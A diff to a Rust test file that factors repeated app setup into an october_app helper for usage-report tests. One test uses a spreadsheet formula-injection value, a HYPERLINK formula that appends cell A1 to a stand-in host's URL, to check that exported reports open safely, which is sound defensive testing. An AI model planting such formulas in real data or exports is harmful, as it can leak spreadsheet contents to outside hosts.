@@ -25,6 +25,18 @@ fn october() -> NaiveDate {
     NaiveDate::from_ymd_opt(2026, 10, 1).expect("date")
 }
 
+/// The app on 1 October 2026 with the padrón loaded.
+async fn october_app(db: &TestDb) -> App {
+    let app = App::build(
+        settings(db, None),
+        Clock::fixed(lima("2026-10-01T08:00:00")),
+    )
+    .await
+    .expect("app");
+    load_padron(&app.store, db).await;
+    app
+}
+
 /// One user action at `at`, a minute apart from the next.
 async fn act(app: &App, chat: &ChatRef, input: Inbound) {
     turn(app, chat, input).await;
@@ -59,13 +71,7 @@ async fn scripted_month(app: &App) {
 
 async fn usage_report_counts_each_ally_access_and_never_staff(backend: Backend) {
     let db = TestDb::new(backend).await;
-    let app = App::build(
-        settings(&db, None),
-        Clock::fixed(lima("2026-10-01T08:00:00")),
-    )
-    .await
-    .expect("app");
-    load_padron(&app.store, &db).await;
+    let app = october_app(&db).await;
     let acoria = access(&app, Place::District("090103"), "987650001").await;
     let region = access(&app, Place::Region("09"), "987650002").await;
     let entity = access(
@@ -260,13 +266,7 @@ pub(crate) fn assert_prints_well(xlsx: &[u8], title: &str, landscape: &[usize]) 
 /// text in the CSV.
 async fn usage_report_reads_prints_and_opens_safely(backend: Backend) {
     let db = TestDb::new(backend).await;
-    let app = App::build(
-        settings(&db, None),
-        Clock::fixed(lima("2026-10-01T08:00:00")),
-    )
-    .await
-    .expect("app");
-    load_padron(&app.store, &db).await;
+    let app = october_app(&db).await;
     access(&app, Place::District("090103"), "987650001").await;
     let trap = r#"=HYPERLINK("http://x.example/?"&A1,"ver")"#;
     access(&app, Place::Entity(trap), "987650004").await;
